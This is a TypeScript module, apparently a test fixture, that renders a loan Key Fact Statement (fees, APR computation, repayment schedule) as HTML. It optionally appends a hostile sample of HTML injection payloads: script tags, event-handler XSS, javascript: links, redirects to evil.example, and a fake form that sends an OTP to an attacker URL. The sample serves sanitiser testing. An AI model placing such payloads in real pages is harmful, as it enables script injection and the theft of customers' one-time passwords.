import { html } from '../stand-ins/page.ts';
import type { Html } from '../stand-ins/page.ts';
import { grid } from '../stand-ins/table.ts';
import { annexBOf, chargesOf, contingent, formulaOf, partOneOf, partTwoOf, partiesOf, scheduleRow } from './kfs.ts';
import type { KfsRow, StatementFacts } from './kfs.ts';

/** The Key Fact Statement as HTML: headings, tables and text, no style. `hostile` adds what must not get through. */
export function statementHtml(facts: StatementFacts, hostile = false): string {
  return html`<h2>Key Fact Statement</h2>
    ${table('Proposal', partiesOf(facts))}
    <h3>Annex A, part 1: interest rate, fees and charges</h3>
    ${table('Loan', partOneOf(facts))} ${charges(facts)} ${table('Contingent charges', contingent)}
    <h3>Annex A, part 2: other information</h3>
    ${table('Your rights', partTwoOf(facts))}
    <h3>Annex B: computation of the APR</h3>
    ${table('Illustration', annexBOf(facts))}
    <p>${formulaOf(facts)}</p>
    <h3>Annex C: repayment schedule</h3>
    ${schedule(facts)}
    <p>No charge that is not named here can be levied without your explicit consent.</p>
    ${hostile ? sample : ''}`.html;
}

function table(caption: string, rows: readonly KfsRow[]): Html {
  const lines = rows.map(
    ([no, what, value]) =>
      html`<tr>
        <th scope="row">${no === '' ? what : `${no}. ${what}`}</th>
        <td>${value}</td>
      </tr>`,
  );
  return html`<table>
    <caption>
      ${caption}
    </caption>
    <tbody>
      ${lines}
    </tbody>
  </table>`;
}

function charges(facts: StatementFacts): Html {
  const lines = chargesOf(facts).map(
    ([no, what, often, toLender, toOthers]) =>
      html`<tr>
        <th scope="row">${no}. ${what}</th>
        <td>${often}</td>
        <td>${toLender}</td>
        <td>${toOthers}</td>
      </tr>`,
  );
  const heads = ['Charge', 'How often', 'To the lender (A)', 'To others through the lender (B)'];
  return grid(heads, lines, 'Fees and charges');
}

function schedule({ terms }: StatementFacts): Html {
  const lines = terms.instalments.map((line) => {
    const [no = '', ...cells] = scheduleRow(line);
    return html`<tr>
      <th scope="row">${no}</th>
      ${cells.map((cell) => html`<td>${cell}</td>`)}
    </tr>`;
  });
  const heads = ['Instalment', 'Due date', 'Outstanding principal', 'Principal', 'Interest', 'Instalment amount'];
  return grid(heads, lines, 'Instalments');
}

/** What a server that was taken over might send: whoever shows the statement has to keep it out. */
const sample: Html = {
  html: `<script>window.parent.hostile = true</script>
    <style>body { display: none }</style>
    <link rel="stylesheet" href="https://evil.example/look.css">
    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <base href="https://evil.example/">
    <img src="https://evil.example/pixel.gif" onerror="window.parent.hostile = true" alt="">
    <svg onload="window.parent.hostile = true"><a href="javascript:hostile()"><text>svg</text></a></svg>
    <form action="https://evil.example/steal"><input name="otp" placeholder="Enter OTP"><button>Submit</button></form>
    <iframe src="https://evil.example/"></iframe>
    <a href="javascript:window.parent.hostile = true">link</a>
    <p style="position: fixed; inset: 0" onclick="window.parent.hostile = true" id="hostile">End of the statement.</p>`,
};
